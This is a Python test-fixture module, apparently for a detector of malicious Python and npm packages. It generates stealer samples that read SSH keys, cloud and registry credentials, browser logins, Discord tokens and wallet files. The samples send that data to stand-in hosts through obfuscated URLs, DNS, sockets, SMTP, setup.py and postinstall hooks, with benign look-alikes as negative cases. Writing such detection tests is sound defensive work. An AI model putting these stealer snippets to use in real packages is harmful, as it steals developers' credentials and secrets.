"""Adversarial variants of credential stealers (issue 12 follow-up): the secret read and the send are
written the ways real stealers write them so that no literal URL sits inside the call. Inert strings:
the engine only reads text. Each must reach high; the benign look-alikes must stay low.
"""

from .techniques import HOOK, pkg_json, setup_py

# What is read: (label, code reading it into `data`).
READS = {
    "ssh_key": "data = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
    "aws_creds": "data = open(os.path.join(os.path.expanduser('~'), '.aws', 'credentials')).read()\n",
    "chrome_login_data": ("data = open(os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data',"
                          " 'Default', 'Login Data'), 'rb').read()\n"),
    "discord_tokens": ("p = os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', 'leveldb')\n"
                       "data = ''.join(open(os.path.join(p, f), errors='ignore').read() for f in os.listdir(p))\n"),
    "exodus_wallet": "data = open(os.path.join(os.getenv('APPDATA'), 'Exodus', 'exodus.wallet', 'seed.seco'), 'rb').read()\n",
    "npmrc": "data = open(os.path.expanduser('~/.npmrc')).read()\n",
    "pathlib_ssh": "from pathlib import Path\ndata = (Path.home() / '.ssh' / 'id_rsa').read_text()\n",
    "glob_ssh": "import glob\ndata = [open(f).read() for f in glob.glob(os.path.expanduser('~/.ssh/*'))]\n",
    "gcloud": "data = open(os.path.expanduser('~/.config/gcloud/application_default_credentials.json')).read()\n",
    "kube": "data = open(os.path.join(os.path.expanduser('~'), '.kube', 'config')).read()\n",
    "git_creds": "data = open(os.path.expanduser('~/.git-credentials')).read()\n",
    "firefox": ("import glob\ndata = [open(p, 'rb').read() for p in"
                " glob.glob(os.path.expanduser('~/.mozilla/firefox/*/logins.json'))]\n"),
    "metamask": ("data = os.listdir(os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default',"
                 " 'Local Extension Settings', 'nkbihfbeogaeaoehlefnkodbefgpgknn'))\n"),
}

_B64_HOOK = "aHR0cDovLzIwMy4wLjExMy43L2M="  # base64 of http://203.0.113.7/c
_HEX_HOOK = "687474703a2f2f3230332e302e3131332e372f63"  # hex of the same

# How the destination is written: (label, prelude defining URL, extra files).
DESTS = {
    "constant": (f"URL = '{HOOK}/c'\n", {}),
    "constant_domain": ("URL = 'https://api.telemetry-sync.example/v2/collect'\n", {}),
    "concat": ("HOST = '203.0.113.7'\nURL = 'http' + '://' + HOST + '/c'\n", {}),
    "b64": (f"import base64\nURL = base64.b64decode('{_B64_HOOK}').decode()\n", {}),
    "hex": (f"URL = bytes.fromhex('{_HEX_HOOK}').decode()\n", {}),
    "second_module": ("from pkg.config import URL\n", {"pkg/config.py": f"URL = '{HOOK}/c'\n"}),
}

# How it leaves: code using URL and data.
SENDS = {
    "requests": "import requests\nrequests.post(URL, data=data)\n",
    "urllib": "import urllib.request\nurllib.request.urlopen(URL, data=str(data).encode())\n",
    "socket": ("import socket\ns = socket.socket()\ns.connect((URL.split('/')[2], 443))\n"
               "s.sendall(str(data).encode())\n"),
    "dns": ("import socket, binascii\nfor i in range(0, 60, 30):\n"
            "    socket.gethostbyname(binascii.hexlify(str(data)[i:i+30].encode()).decode() + '.' + URL.split('/')[2])\n"),
    "httpclient": ("import http.client\nc = http.client.HTTPSConnection(URL.split('/')[2])\n"
                   "c.request('POST', '/c', body=str(data))\n"),
    "smtp": "import smtplib\ns = smtplib.SMTP(URL.split('/')[2], 587)\ns.sendmail('a@x', 'b@x', str(data))\n",
    "fstring": "import requests\nrequests.post(f'{URL}/up', json={'d': str(data)})\n",
    "urllib_request": ("import urllib.request\nreq = urllib.request.Request(URL, data=str(data).encode(), method='POST')\n"
                       "urllib.request.urlopen(req)\n"),
}


def _body(read: str, dest: str, send: str) -> tuple[str, dict]:
    prelude, extra = DESTS[dest]
    return "import os\n" + prelude + READS[read] + SENDS[send], extra


def _combinations(full: bool):
    if full:
        yield from ((r, d, s) for r in READS for d in DESTS for s in SENDS)
        return
    # Every pair of dimensions at least once (the full product is `variants(full=True)`).
    yield from ((r, d, "requests") for r in READS for d in DESTS)
    yield from (("ssh_key", d, s) for d in DESTS for s in SENDS)
    yield from ((r, "constant_domain", s) for r in READS for s in SENDS)


def variants(full: bool = False) -> dict[str, dict[str, str]]:
    """case id -> files, for read x destination x send combinations: in a top-level __init__, in a
    module it imports (as module statements, or in a function the module calls), and in setup.py."""
    out = {}
    for read, dest, send in _combinations(full):
        body, extra = _body(read, dest, send)
        out[f"init-{read}-{dest}-{send}"] = {"pkg/__init__.py": body, **extra}
        setup_body = body.replace("from pkg.config import URL", "from config import URL")
        setup_extra = {k.replace("pkg/", ""): v for k, v in extra.items()}
        out[f"module-{read}-{dest}-{send}"] = {"pkg/__init__.py": "from . import _sync\n",
                                               "pkg/_sync.py": body, **extra}
        called = "def _sync():\n" + "".join("    " + ln + "\n" for ln in body.splitlines()) + "\n_sync()\n"
        out[f"modfunc-{read}-{dest}-{send}"] = {"pkg/__init__.py": "from . import _sync\n",
                                                "pkg/_sync.py": called, **extra}
        out[f"setup-{read}-{dest}-{send}"] = {"setup.py": setup_py(setup_body), "pkg/__init__.py": "",
                                              **setup_extra}
    return out


# A CLI tool that reads its own credentials file and calls its own API.
BENIGN = {
    "cli_own_credentials": {
        "pkg/__init__.py": "",
        "pkg/client.py": (
            "import os, configparser, requests\n\n"
            "class Client:\n"
            "    base_url = 'https://api.example.com'\n\n"
            "    def __init__(self):\n"
            "        cfg = configparser.ConfigParser()\n"
            "        cfg.read(os.path.expanduser('~/.exampletool/credentials'))\n"
            "        self.token = cfg.get('default', 'token', fallback=None)\n\n"
            "    def upload(self, path):\n"
            "        with open(path, 'rb') as fh:\n"
            "            return requests.post(self.base_url + '/v1/upload', data=fh,\n"
            "                                 headers={'Authorization': 'Bearer ' + self.token})\n"),
    },
    "ssh_tool_own_key": {
        "pkg/__init__.py": "",
        "pkg/deploy.py": (
            "import os, requests\n"
            "API = 'https://deploy.example.com/v1'\n\n"
            "def register_key(session):\n"
            "    key = open(os.path.expanduser('~/.ssh/id_rsa.pub')).read()\n"
            "    return session.post(API + '/keys', json={'key': key})\n"),
    },
    "aws_cli_wrapper": {
        "pkg/__init__.py": "",
        "pkg/aws.py": (
            "import os, configparser, requests\n"
            "ENDPOINT = os.environ.get('TOOL_ENDPOINT', 'https://tool.example.com')\n\n"
            "def profile(name='default'):\n"
            "    cfg = configparser.ConfigParser()\n"
            "    cfg.read(os.path.expanduser('~/.aws/credentials'))\n"
            "    return cfg[name]\n\n"
            "def report(status):\n"
            "    return requests.post(ENDPOINT + '/status', json=status)\n"),
    },
}


# npm: the same theft in the package's main file (runs on require) and in a postinstall script.
JS_READS = {
    "npmrc": "const d = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\n",
    "ssh_key": "const d = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');\n",
    "aws_creds": "const d = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8');\n",
    "discord_tokens": ("const p = path.join(process.env.APPDATA, 'discord', 'Local Storage', 'leveldb');\n"
                       "const d = fs.readdirSync(p).map(f => fs.readFileSync(path.join(p, f), 'latin1')).join('');\n"),
}
JS_DESTS = {
    "constant": "const U = 'https://api.telemetry-sync.example/c';\n",
    "b64": "const U = Buffer.from('aHR0cHM6Ly9hcGkudGVsZW1ldHJ5LXN5bmMuZXhhbXBsZS9j', 'base64').toString();\n",
    "concat": "const H = 'api.telemetry-sync.example';\nconst U = 'https' + '://' + H + '/c';\n",
    "second_module": "const { U } = require('./config');\n",
}
JS_SENDS = {
    "https": "const r = https.request(U, { method: 'POST' });\nr.write(d);\nr.end();\n",
    "fetch": "fetch(U, { method: 'POST', body: d });\n",
    "axios": "const axios = require('axios');\naxios.post(U, { d });\n",
    "dns": ("const dns = require('dns');\n"
            "dns.resolve(Buffer.from(d.slice(0, 30)).toString('hex') + '.' + new URL(U).hostname, () => {});\n"),
}


def js_variants() -> dict[str, dict[str, str]]:
    head = "const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');\n"
    out = {}
    for read in JS_READS:
        for dest in JS_DESTS:
            for send in JS_SENDS:
                body = head + JS_DESTS[dest] + JS_READS[read] + JS_SENDS[send]
                config = {"config.js": "module.exports.U = 'https://api.telemetry-sync.example/c';\n"}
                out[f"main-{read}-{dest}-{send}"] = {"package.json": pkg_json("x-util"), "index.js": body, **config}
                out[f"postinstall-{read}-{dest}-{send}"] = {
                    "package.json": pkg_json("x-util", {"postinstall": "node setup.js"}), "setup.js": body,
                    "index.js": "module.exports = 1;\n", **config}
    return out


# A publishing CLI reading the user's .npmrc when asked and posting to the registry it names.
JS_BENIGN = {
    "publish_cli": {
        "package.json": pkg_json("tiny-publish", bin={"tiny-publish": "cli.js"}),
        "cli.js": (
            "const fs = require('fs'), os = require('os'), path = require('path');\n"
            "const REGISTRY = 'https://registry.npmjs.org';\n\n"
            "function token() {\n"
            "  const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\n"
            "  return (rc.match(/_authToken=(.+)/) || [])[1];\n}\n\n"
            "module.exports.publish = (name, body) =>\n"
            "  fetch(REGISTRY + '/' + name, { method: 'PUT', body, headers: { authorization: 'Bearer ' + token() } });\n"),
    },
}
